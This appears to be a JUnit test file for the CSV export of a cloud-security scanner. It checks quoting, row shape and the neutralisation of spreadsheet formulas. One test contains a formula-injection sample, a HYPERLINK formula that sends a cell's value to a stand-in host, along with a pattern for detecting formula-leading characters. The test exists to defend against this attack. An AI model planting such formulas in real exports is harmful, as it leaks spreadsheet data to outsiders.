package io.plumbline.scanner.finding.export;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

/** RFC 4180 shape, quoting, and that nothing in a cell runs as a spreadsheet formula. */
class CsvExportTest {

    @Test
    void shouldWriteAHeaderRowAndOneCrlfTerminatedRowPerFinding() throws IOException {
        String csv = export(List.of(SampleFindings.open(), SampleFindings.resolvedFromARetiredRule()));

        assertThat(csv).startsWith(String.join(",", CsvExport.COLUMNS) + "\r\n");
        assertThat(csv).endsWith("\r\n");
        List<List<String>> rows = parse(csv);
        assertThat(rows).hasSize(3);
        assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(CsvExport.COLUMNS.size()));
        List<String> open = rows.get(1);
        assertThat(open.get(column("fingerprint"))).isEqualTo("a".repeat(64));
        assertThat(open.get(column("status"))).isEqualTo("OPEN");
        assertThat(open.get(column("resourceArn"))).isEqualTo("arn:aws:rds:sa-east-1:123456789012:db:crm-db");
        assertThat(open.get(column("resourceTags"))).isEqualTo("{\"env\":\"prod\",\"team\":\"crm\"}");
        assertThat(open.get(column("firstSeenAt"))).isEqualTo("2026-03-01T10:15:30Z");
        assertThat(open.get(column("resolvedAt"))).isEmpty();
        assertThat(rows.get(2).get(column("resolvedAt"))).isEqualTo("2026-03-03T09:30:00Z");
    }

    @Test
    void shouldQuoteSeparatorsQuotesAndLineBreaksSoEveryRowParsesBack() throws IOException {
        String csv = export(List.of(SampleFindings.hostile()));

        assertThat(csv).contains("\"Instance \"\"evil\"\", in us-east-2,\nis single-AZ; see <details> & \\ more\"");
        List<String> row = parse(csv).get(1);
        assertThat(row).hasSize(CsvExport.COLUMNS.size());
        assertThat(row.get(column("message"))).isEqualTo("Instance \"evil\", in us-east-2,\nis single-AZ; see <details> & \\ more");
    }

    @Test
    void shouldNeutraliseCellsASpreadsheetWouldRunAsFormulas() throws IOException {
        List<String> row = parse(export(List.of(SampleFindings.hostile()))).get(1);

        assertThat(row.get(column("resourceName"))).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
        assertThat(row).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\\t\\r].*"));
        assertThat(CsvExport.cell("+1")).isEqualTo("'+1");
        assertThat(CsvExport.cell("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvExport.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(CsvExport.cell("\t=1")).isEqualTo("'\t=1");
        assertThat(CsvExport.cell("crm-db")).isEqualTo("crm-db");
        assertThat(CsvExport.cell("")).isEmpty();
        assertThat(CsvExport.cell(null)).isNull();
    }

    @Test
    void shouldWriteOnlyTheHeaderWhenThereIsNothingToExport() throws IOException {
        assertThat(export(List.of())).isEqualTo(String.join(",", CsvExport.COLUMNS) + "\r\n");
    }

    private static int column(String name) {
        return CsvExport.COLUMNS.indexOf(name);
    }

    private static String export(List<io.plumbline.scanner.finding.FindingView> findings) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ExportFormat.CSV.export().write(findings, SampleFindings.CATALOG, out);
        return out.toString(StandardCharsets.UTF_8);
    }

    private static List<List<String>> parse(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        try (MappingIterator<List<String>> rows = mapper.readerForListOf(String.class).readValues(csv)) {
            return rows.readAll();
        }
    }
}
